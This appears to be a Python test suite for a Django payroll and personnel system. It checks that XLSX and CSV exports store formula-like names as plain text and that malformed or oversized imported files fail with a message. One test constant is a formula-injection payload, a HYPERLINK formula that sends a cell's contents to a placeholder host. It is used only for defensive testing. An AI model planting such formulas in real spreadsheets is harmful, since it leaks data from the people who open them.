"""Spreadsheets we write never turn a user's text into a formula; reading hostile files fails politely.

Formula injection (OWASP "CSV injection"): a name typed as `=HYPERLINK(...)` must come back from every
XLSX/CSV the product writes as that same text, never as a formula, and export → import stays a no-op.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import load_workbook

from core.xlsx import SpreadsheetError, csv_value, csv_value_read, read_rows, write_csv, write_xlsx
from pegawai.models import Pegawai
from tests.penggajian.bantu import hitung, kunci

JAHAT = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
TEKS = [JAHAT, "+62 812 3456", "-sisa", "@SUM(A1)", "\tTAB", "\rCR", "'=sudah dikutip", "'biasa", "Andi"]


def _xlsx_cells(content: bytes) -> list[list]:
    """Every cell as openpyxl reads it in normal (not read-only) mode: value and data type."""
    workbook = load_workbook(io.BytesIO(content))
    return [[(c.value, c.data_type) for c in row] for row in workbook.worksheets[0].iter_rows()]


def _assert_no_formula(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name), name


def test_xlsx_stores_formula_like_text_as_text_and_numbers_as_numbers():
    content = write_xlsx(["nama", "angka"], [[t, -1500] for t in TEKS])
    _assert_no_formula(content)
    cells = _xlsx_cells(content)
    # XML turns a carriage return into a line feed; the text is otherwise exact.
    assert [row[0][0] for row in cells[1:]] == [t.replace("\r", "\n") for t in TEKS]
    assert {row[0][1] for row in cells[1:]} == {"s"}
    assert all(row[1] == (-1500, "n") for row in cells[1:])  # a negative amount stays a number
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.worksheets[0]["A2"].quotePrefix is True
    assert workbook.worksheets[0]["A10"].quotePrefix is False  # "Andi" needs no prefix


def test_csv_quotes_formula_like_text_and_reading_restores_it(tmp_path):
    content = write_csv(["nama", "angka"], [[t, -1500] for t in TEKS])
    raw = list(csv.reader(io.StringIO(content.decode())))
    assert [r[0] for r in raw[1:]] == [
        "'" + JAHAT,
        "'+62 812 3456",
        "'-sisa",
        "'@SUM(A1)",
        "'\tTAB",
        "'\rCR",
        "''=sudah dikutip",
        "'biasa",
        "Andi",
    ]
    assert {r[1] for r in raw[1:]} == {"-1500"}
    path = tmp_path / "x.csv"
    path.write_bytes(content)
    back = list(read_rows(path, filename="x.csv"))
    assert [r[0] for r in back[1:]] == TEKS
    for text in TEKS:
        assert csv_value_read(csv_value(text)) == text


def test_xlsx_round_trip_through_read_rows(tmp_path):
    path = tmp_path / "x.xlsx"
    path.write_bytes(write_xlsx(["nama"], [[t] for t in TEKS]))
    expected = [t.replace("\r", "\n").strip() for t in TEKS]  # read_rows strips cells
    assert [r[0] for r in list(read_rows(path, filename="x.xlsx"))[1:]] == expected


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_pegawai_then_import_is_a_no_op_with_a_formula_like_name(org, tmp_path, capsys, suffix):
    Pegawai.objects.filter(pk=org.staf_a.pk).update(nama=JAHAT, telepon="+6281234567")
    path = tmp_path / f"pegawai.{suffix}"
    call_command("export_pegawai", str(path))
    if suffix == "xlsx":
        _assert_no_formula(path.read_bytes())
        assert [JAHAT, "s"] in [list(cell) for row in _xlsx_cells(path.read_bytes()) for cell in row]
    else:
        assert "\"'" + JAHAT.replace('"', '""') + '"' in path.read_text()
    before = list(Pegawai.objects.order_by("pk").values())
    history_before = Pegawai.history.count()
    call_command("import_pegawai", str(path))
    assert "4 tidak berubah" in capsys.readouterr().out
    assert list(Pegawai.objects.order_by("pk").values()) == before
    assert Pegawai.history.count() == history_before
    assert Pegawai.objects.get(pk=org.staf_a.pk).nama == JAHAT


def test_browser_downloads_keep_a_formula_like_name_as_text(org, client_as):
    Pegawai.objects.filter(pk=org.staf_a.pk).update(nama=JAHAT)
    client = client_as("admin_bkd")
    for url, params in [
        ("/pegawai/", {"format": "xlsx"}),
        ("/laporan/duk/", {"opd": "A", "format": "xlsx"}),
        ("/laporan/nominatif/", {"opd": "A", "format": "xlsx"}),
    ]:
        content = client.get(url, params).content
        _assert_no_formula(content)
        values = [cell[0] for row in _xlsx_cells(content) for cell in row]
        assert any(isinstance(v, str) and v.endswith(JAHAT) for v in values), url


def test_payroll_files_keep_a_formula_like_name_as_text(bergaji, org, users, petugas, client, tmp_path):
    Pegawai.objects.filter(pk=org.staf_a.pk).update(nama=JAHAT)
    run = hitung(petugas["pembuat"])
    client.force_login(users["pimpinan"])
    for name in ("penggajian:register_xlsx", "penggajian:rekap_opd_xlsx"):
        _assert_no_formula(client.get(reverse(name, args=[run.pk])).content)
    register = client.get(reverse("penggajian:register_xlsx", args=[run.pk])).content
    assert (JAHAT, "s") in [cell for row in _xlsx_cells(register) for cell in row]
    run = kunci(petugas, run)
    bank = client.get(reverse("penggajian:bank_csv", args=[run.pk])).content.decode()
    assert "'" + JAHAT.replace('"', '""') in bank
    call_command("export_gaji", "2026-11", str(tmp_path / "g.xlsx"), "--jenis", "induk")
    _assert_no_formula((tmp_path / "g.xlsx").read_bytes())
    call_command("export_gaji", "2026-11", str(tmp_path / "g.csv"), "--jenis", "induk")
    assert "'" + JAHAT.replace('"', '""') in (tmp_path / "g.csv").read_text()


# --- hostile files: a message, never a server error ----------------------------------------------------


def test_csv_with_a_huge_field_gives_a_message(tmp_path):
    path = tmp_path / "besar.csv"
    path.write_text("nip,nama\n1," + "x" * 200_000 + "\n")
    with pytest.raises(SpreadsheetError, match=r"isian lebih panjang dari 131\.072 karakter"):
        list(read_rows(path, filename="besar.csv"))


@pytest.mark.parametrize(
    "isi",
    [
        b"PK\x03\x04bukan zip",
        b"",
        # A real ZIP that is not a workbook.
        None,
    ],
)
def test_malformed_xlsx_gives_a_message(tmp_path, isi):
    path = tmp_path / "rusak.xlsx"
    if isi is None:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("[Content_Types].xml", "<Types/>")
            archive.writestr("xl/workbook.xml", "<workbook><sheets><sheet")
        isi = buffer.getvalue()
    path.write_bytes(isi)
    with pytest.raises(SpreadsheetError, match="bukan spreadsheet Excel"):
        list(read_rows(path, filename="rusak.xlsx"))


def test_rows_past_the_cap_stop_reading(tmp_path, settings):
    settings.ASN_IMPORT_MAX_ROWS = 5
    path = tmp_path / "banyak.csv"
    path.write_text("nip\n" + "1\n" * 5)
    assert len(list(read_rows(path, filename="banyak.csv"))) == 6
    path.write_text("nip\n" + "1\n" * 6)
    with pytest.raises(SpreadsheetError, match="lebih dari 5 baris data"):
        list(read_rows(path, filename="banyak.csv"))


def test_import_with_too_many_rows_or_errors_stops_early(org, tmp_path, settings, capsys):
    settings.ASN_IMPORT_MAX_ERRORS = 3
    path = tmp_path / "salah.csv"
    path.write_text("kode,nama,kode_induk,jenis\n" + "".join(f"X{i},Unit {i},,salah\n" for i in range(50)))
    with pytest.raises(CommandError):
        call_command("import_unit_kerja", str(path))
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 4
    assert "pemeriksaan dihentikan setelah 3 kesalahan" in err[-1]
    settings.ASN_IMPORT_MAX_ERRORS = 1000
    settings.ASN_IMPORT_MAX_ROWS = 10
    with pytest.raises(CommandError, match="lebih dari 10 baris data"):
        call_command("import_unit_kerja", str(path))


def test_workbook_with_a_wrong_header_is_rejected_before_its_rows_are_read(org, tmp_path, monkeypatch):
    """The header is checked first: the rows of a workbook with a wrong header are never parsed."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["bukan", "kolom"])
    for i in range(2000):
        sheet.append([i, i])
    path = tmp_path / "salah.xlsx"
    workbook.save(path)
    import core.xlsx as xlsx

    dibaca = []
    asli = xlsx._cell_text
    monkeypatch.setattr(xlsx, "_cell_text", lambda v: dibaca.append(v) or asli(v))
    from pegawai.impor import UnitKerjaImporter

    report = UnitKerjaImporter().run(path, filename="salah.xlsx", dry_run=True)
    assert str(report.errors[0]).startswith("baris 1, kolom kode: kolom wajib tidak ada")
    assert len(dibaca) < 50  # the header row (and at most the row the reader buffered), not 4,000 cells


def test_a_writer_with_its_own_layout_protects_cells_with_the_same_helper():
    from openpyxl import Workbook

    from core.xlsx import xlsx_protect

    workbook = Workbook()
    sheet = workbook.active
    for text in TEKS:
        xlsx_protect(sheet.cell(row=sheet.max_row + 1, column=1, value=text))
    sheet.cell(row=1, column=2, value=-5)
    buffer = io.BytesIO()
    workbook.save(buffer)
    _assert_no_formula(buffer.getvalue())
    cells = _xlsx_cells(buffer.getvalue())
    assert [row[0][0] for row in cells[1:]] == [t.replace("\r", "\n") for t in TEKS]
    assert cells[0][1] == (-5, "n")
